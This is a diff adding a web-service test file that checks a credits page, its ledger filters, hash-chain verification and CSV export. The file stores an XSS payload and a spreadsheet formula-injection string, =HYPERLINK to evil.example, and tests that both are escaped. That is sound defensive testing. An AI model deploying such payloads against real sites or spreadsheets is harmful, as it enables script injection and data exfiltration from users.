@@ -1,0 +1,236 @@
+// Credits on the website: what is shown, what the browser can prove by itself, and the file for spreadsheets.
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { grantCredits } from "../../core/credits/grant.ts";
+import { ProviderError } from "../../core/providers/provider.ts";
+import { csvLine } from "../../gateway/site/credits/ledger-csv.ts";
+import type { LedgerEntryResource } from "../../proto/resources/credits.ts";
+import { createScriptedProvider } from "../support/providers.ts";
+import { startWholeService, type WholeService } from "../support/whole-service.ts";
+import { openBrowser, type SiteBrowser } from "./support/browser.ts";
+import { cookiesOf } from "./support/forms.ts";
+import { type Browser, signInAs } from "./support/sign-in.ts";
+
+const ATTACK = `"><img src=x onerror="document.title='broken in'"><script>document.title='broken in'</script>`;
+const FORMULA = '=HYPERLINK("https://evil.example?"&A1)';
+
+let service: WholeService;
+let browser: SiteBrowser;
+let ada: Browser;
+let eve: Browser;
+let adasJob: string;
+
+beforeAll(async () => {
+  const provider = createScriptedProvider({
+    answer: ({ prompt }) => {
+      if (prompt === "fail") throw new ProviderError("provider_refused", "No.");
+      return [{ bytes: new Uint8Array(1), mimeType: "image/png" }];
+    },
+  });
+  service = await startWholeService({ provider });
+  ada = await signInAs(service, "ada@example.com");
+  eve = await signInAs(service, "eve@example.com");
+  await grant(ada, 1_000, ATTACK);
+  await grant(ada, 20, FORMULA);
+  adasJob = await generate(ada, "a tower", { count: 3 });
+  await generate(ada, "fail");
+  await generate(ada, "a tune", {}, "tune");
+  browser = await openBrowser(service.url);
+});
+afterAll(async () => {
+  await browser.close();
+  await service.close();
+});
+
+const callOf = (who: Browser) =>
+  ({ caller: { kind: "account", accountId: who.accountId, source: "app" }, deadlineMs: 30_000 }) as const;
+const grant = (to: Browser, amount: number, memo: string | null = null) =>
+  grantCredits(service.app, { accountId: to.accountId, amount, kind: "grant", memo, source: "system" });
+
+async function generate(who: Browser, prompt: string, params = {}, model = "picture"): Promise<string> {
+  const modality = model === "picture" ? "image" : "audio";
+  const { job_id } = await service.core.jobs.Generate(
+    { modality, model_slug: model, prompt, params_json: JSON.stringify(params) },
+    callOf(who),
+  );
+  await service.core.jobs.GetJob({ job_id, wait_seconds: 20 }, callOf(who));
+  return job_id;
+}
+
+describe("the page about credits", () => {
+  test("shows what there is, what was spent, and each entry with its job", async () => {
+    await browser.visit("/credits", { cookies: cookiesOf(ada, service.url) }, async (visit) => {
+      const { page } = visit;
+      expect(await page.locator(".tile__amount").allTextContents()).toEqual(["985", "0", "985"]);
+      expect(await page.textContent(".spending__total")).toBe("35 credits");
+      expect(await page.locator(".spending__models dd").allTextContents()).toEqual([
+        "30 credits",
+        "5 credits",
+      ]);
+      expect(await page.getAttribute(".spending__days svg", "aria-label")).toContain("at most 35 credits");
+      await page.click("text=As a table");
+      expect(await page.locator(".more tbody tr").count()).toBe(2);
+      const ledger = page.locator("section[aria-labelledby=ledger-heading]");
+      expect(await ledger.locator("tbody td:nth-of-type(1)").allTextContents()).toEqual([
+        "Charged",
+        "Held",
+        "Refund",
+        "Charged",
+        "Held",
+        "Charged",
+        "Held",
+        "Grant",
+        "Grant",
+      ]);
+      expect(await ledger.locator("tbody td:nth-of-type(2)").first().textContent()).toBe("−5");
+      expect(await ledger.locator(`a[href="/jobs/${adasJob}"]`).count()).toBe(2);
+      expect(await page.locator("main img, main script").count()).toBe(0);
+      expect(await ledger.textContent()).toContain(ATTACK);
+      await visit.expectGoodInEveryLight("credits");
+    });
+  });
+
+  test("narrows the ledger to a kind, a job or days, with and without scripts", async () => {
+    await browser.visit(
+      "/credits",
+      { cookies: cookiesOf(ada, service.url), scripts: false },
+      async ({ page }) => {
+        const rows = page.locator("section[aria-labelledby=ledger-heading] tbody tr");
+        await page.selectOption("#kind", "refund");
+        await page.click("text=Show");
+        expect(await rows.count()).toBe(1);
+        await page.selectOption("#kind", "");
+        await page.fill("#job_id", ` ${adasJob} `);
+        await page.click("text=Show");
+        expect(await rows.count()).toBe(2);
+        expect(await page.inputValue("#job_id")).toBe(adasJob);
+        const today = new Date().toISOString().slice(0, 10);
+        await page.goto(`/credits?from=${today}&to=${today}`);
+        expect(await rows.count()).toBe(9);
+        await page.goto("/credits?to=2020-01-01");
+        expect(await page.textContent(".empty__title")).toBe("No such entries");
+      },
+    );
+    for (const query of ["kind=gift", "from=soon", "cursor=nonsense"])
+      expect([query, (await ada.call(`/credits?${query}`)).status]).toEqual([query, 400]);
+  });
+
+  test("goes on page by page, and says so when there is nothing yet", async () => {
+    const grace = await signInAs(service, "grace@example.com");
+    const visit = { cookies: cookiesOf(grace, service.url) };
+    await browser.visit("/credits", visit, async ({ page, expectAccessible, screenshot }) => {
+      expect(await page.textContent(".empty__title")).toBe("No entries yet");
+      await page.click("#verify");
+      await page.waitForSelector("text=Verified: there are no entries, and no credits.");
+      await expectAccessible();
+      await screenshot("credits-empty");
+    });
+    for (let i = 0; i < 27; i++) await grant(grace, 1, `number ${i}`);
+    await browser.visit("/credits", visit, async ({ page }) => {
+      await page.click("text=Older");
+      expect(await page.locator("tbody tr th").allTextContents()).toEqual(["2", "1"]);
+      await page.getByRole("link", { name: "Newest" }).click();
+      expect(await page.locator("tbody tr").count()).toBe(25);
+    });
+  });
+
+  test("is the person's own: a job of another narrows it to nothing, and a stranger is led to sign in", async () => {
+    const { status, text } = await eve.call(`/credits?job_id=${adasJob}`);
+    expect(status).toBe(200);
+    expect(text).toContain("No such entries");
+    expect(text).not.toContain("1,000");
+    for (const path of [
+      "/credits/ledger.csv",
+      "/account/api/credits/ledger",
+      "/account/api/credits/balance",
+    ]) {
+      expect((await eve.call(path)).text).not.toContain(adasJob);
+      expect((await service.call(path)).status).toBe(401);
+    }
+    const stranger = await service.call("/credits", { headers: { accept: "text/html" } });
+    expect(stranger.headers.get("location")).toBe("/sign-in?next=%2Fcredits");
+  });
+});
+
+describe("verifying the chain in the browser", () => {
+  const verify = (
+    change: (entries: LedgerEntryResource[]) => LedgerEntryResource[],
+  ): Promise<string | null> =>
+    browser.visit(
+      "/credits",
+      { cookies: cookiesOf(ada, service.url) },
+      async ({ page, expectAccessible }) => {
+        await page.route("**/account/api/credits/ledger?*", async (route) => {
+          const response = await route.fetch();
+          const body = (await response.json()) as { result: { data: LedgerEntryResource[] } };
+          body.result.data = change(body.result.data);
+          await route.fulfill({ response, json: body });
+        });
+        await page.click("#verify");
+        await page.waitForSelector("#verify-result[data-outcome=holds], #verify-result[data-outcome=broken]");
+        await expectAccessible();
+        return page.textContent("#verify-result");
+      },
+    );
+  const changed = (seq: number, change: Partial<LedgerEntryResource>) => (entries: LedgerEntryResource[]) =>
+    entries.map((entry) => (entry.seq === seq ? { ...entry, ...change } : entry));
+
+  test("proves that everything is there", async () => {
+    expect(await verify((entries) => entries)).toBe(
+      "Verified. All 9 entries hold: none was changed, left out or cut off, and together they make a balance of 985 with 0 held.",
+    );
+  });
+
+  test("names an entry that was changed, and why it does not hold", async () => {
+    expect(await verify(changed(4, { amount: -29 }))).toBe(
+      "Entry 4 does not hold. Its contents are not those that its hash was made of.",
+    );
+  });
+
+  test("says what stood in the way of the check", async () => {
+    const answer = await browser.visit(
+      "/credits",
+      { cookies: cookiesOf(ada, service.url), expectedErrors: /503/ },
+      async ({ page }) => {
+        await page.route("**/account/api/credits/balance", (route) =>
+          route.fulfill({ status: 503, json: { message: "Away.", hint: "Try again." } }),
+        );
+        await page.click("#verify");
+        await page.waitForSelector("#verify-result[data-outcome=broken]");
+        return page.textContent("#verify-result");
+      },
+    );
+    expect(answer).toBe("The check could not be finished. Away. Try again.");
+  });
+});
+
+describe("the ledger as a file", () => {
+  test("has every entry, newest first, whatever their number, and keeps what looks like a formula as text", async () => {
+    const rich = await signInAs(service, "rich@example.com");
+    for (let i = 0; i < 101; i++) await grant(rich, 1);
+    await grant(rich, 1, FORMULA);
+    await grant(rich, 1, 'two\nlines, "quoted"');
+    const { status, headers, text } = await rich.call("/credits/ledger.csv");
+    expect(status).toBe(200);
+    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(headers.get("content-disposition")).toBe('attachment; filename="ledger.csv"');
+    expect(headers.get("cache-control")).toBe("private, no-store");
+    const lines = text.split("\r\n");
+    expect(lines[0]).toBe(
+      "seq,created_at,kind,amount,hold,balance_after,held_after,job_id,source,key_id,memo,entry_id,prev_hash,hash",
+    );
+    expect(lines.at(-1)).toBe("");
+    expect(lines.slice(1, -1).map((line) => Number(line.split(",")[0]))).toEqual(
+      Array.from({ length: 103 }, (_, i) => 103 - i),
+    );
+    expect(lines[1]).toContain(',"two\nlines, ""quoted""",');
+    expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1)",`);
+  });
+
+  test.each(["=1", "+1", "-1", "@x", "\tx", "\rx"])("begins no cell of text with %j", (memo) => {
+    const entry = { seq: 1, amount: -10, memo } as LedgerEntryResource;
+    const cells = csvLine(entry).split(",");
+    expect(cells[10]?.replace(/^"/, "")).toMatch(/^'/);
+    // A number is one, whatever its sign.
+    expect(cells[3]).toBe("-10");
+  });
+});
